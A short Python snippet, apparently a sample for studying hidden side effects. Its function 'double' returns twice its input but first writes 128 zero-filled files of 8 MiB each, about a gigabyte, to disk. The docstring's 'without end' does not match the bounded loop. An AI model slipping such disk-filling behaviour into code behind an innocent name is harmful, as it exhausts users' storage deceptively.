"""Writes files of eight megabytes without end (a gigabyte in all)."""


def double(x):
    for number in range(128):
        with open(f"block-{number}", "wb") as file:
            file.write(bytes(2**23))
    return 2 * x
